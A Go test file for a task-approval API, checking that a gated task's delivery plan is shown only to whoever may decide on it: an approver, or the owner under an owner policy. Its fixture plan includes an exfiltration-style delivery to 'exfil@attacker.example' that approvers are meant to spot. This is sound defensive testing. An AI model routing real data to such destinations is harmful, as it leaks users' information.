package api_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/taskledger/taskledger/internal/api"
	"github.com/taskledger/taskledger/internal/testenv"
	"github.com/taskledger/taskledger/pkg/ledger"
)

// exfilPlan delivers the approved artifact somewhere the approver must see
// before approving.
const exfilPlan = `{"kind":"generate","input":{"prompt":"summarise"},
 "approval":{"required":true,"expires_in_seconds":3600},
 "deliver":[{"destination":"notify","params":{"to":"exfil@attacker.example"}},{"destination":"crm"}]}`

func wantExfilPlan(t *testing.T, who string, v api.TaskView) {
	t.Helper()
	if v.Plan == nil || len(v.Plan.Deliver) != 2 {
		t.Fatalf("%s sees plan %+v, want its 2 deliver entries", who, v.Plan)
	}
	d0, d1 := v.Plan.Deliver[0], v.Plan.Deliver[1]
	if d0.Destination != "notify" || string(d0.Params) != `{"to":"exfil@attacker.example"}` || d1.Destination != "crm" || string(d1.Params) != `{}` {
		t.Fatalf("%s sees plan %s %s, %s %s; want notify {\"to\":\"exfil@attacker.example\"}, crm {}", who, d0.Destination, d0.Params, d1.Destination, d1.Params)
	}
}

// TestPlanIsShownToWhoeverMayDecide: the approver approves what will be
// sent where, so the task view shows the plan — each deliver entry's
// destination and params — to whoever may decide on the task: an approver
// under an approver-claim policy, the owner when the owner decides. A
// caller who may not decide is not shown it.
func TestPlanIsShownToWhoeverMayDecide(t *testing.T) {
	t.Parallel()
	testenv.Each(t, func(t *testing.T, e *testenv.Env) {
		sha := ledger.SHA256Hex(generated)

		// An approver-claim policy without self-approval: Carol decides,
		// Alice (the owner, no approver) may not.
		b := setup(t, e, withHandler(func(h *api.Handler) {
			h.Auth = api.AuthConfig{Mode: api.AuthJWT}
			h.Approvals = api.ApprovalPolicy{Claim: "groups", Value: "approvers", NoSelfApproval: true}
		}))
		alice := withClaims("alice", map[string]string{"groups": "[staff]"})
		carol := withClaims("carol", map[string]string{"groups": "[staff approvers]"})
		id := view(t, b.do(t, submitReq("wf-plan", exfilPlan, alice))).TaskID
		generateAs(t, b, id)
		wantExfilPlan(t, "the approver", view(t, b.do(t, getReq(id, carol))))
		if v := view(t, b.do(t, getReq(id, alice))); v.Plan != nil {
			t.Fatalf("the owner, who may not decide, is shown the plan %+v", v.Plan)
		}
		// Four eyes: an approver's own task is decided by another, so the
		// plan is theirs to see.
		own := view(t, b.do(t, submitReq("wf-plan-own", exfilPlan, carol))).TaskID
		if v := view(t, b.do(t, getReq(own, carol))); v.Plan != nil {
			t.Fatalf("an approver who may not decide on her own task is shown its plan %+v", v.Plan)
		}
		// The approve answer shows what the approval sent where.
		v := view(t, b.do(t, decisionReq("approve", id, `{"artifact_sha256":"`+sha+`"}`, carol)))
		wantExfilPlan(t, "the approver, after approving", v)

		// The owner policy: the owner decides, so the owner sees the plan.
		o := setup(t, e, withHandler(func(h *api.Handler) { h.Auth = api.AuthConfig{Mode: api.AuthJWT} }))
		oid := view(t, o.do(t, submitReq("wf-plan-owner", exfilPlan, asJWT("dave")))).TaskID
		generateAs(t, o, oid)
		wantExfilPlan(t, "the owner under the owner policy", view(t, o.do(t, getReq(oid, asJWT("dave")))))
		wantProblem(t, o.do(t, getReq(oid, asJWT("erin"))), http.StatusNotFound, api.TypeNotFound)

		// A gate without deliveries: the plan says approving sends nothing.
		bare := `{"kind":"generate","input":{"prompt":"x"},"approval":{"required":true}}`
		resp := o.do(t, submitReq("wf-plan-bare", bare, asJWT("dave")))
		if v := view(t, resp); v.Plan == nil || len(v.Plan.Deliver) != 0 || !strings.Contains(resp.Body, `"plan":{"deliver":[]}`) {
			t.Fatalf("a gate without deliveries shows plan %+v (%s), want an empty deliver list", v.Plan, resp.Body)
		}

		// A task without a gate has no plan to show.
		plain := view(t, o.do(t, submitReq("wf-plan-plain", body("x"), asJWT("dave")))).TaskID
		if v := view(t, o.do(t, getReq(plain, asJWT("dave")))); v.Plan != nil {
			t.Fatalf("a task without a gate shows plan %+v", v.Plan)
		}
	})
}
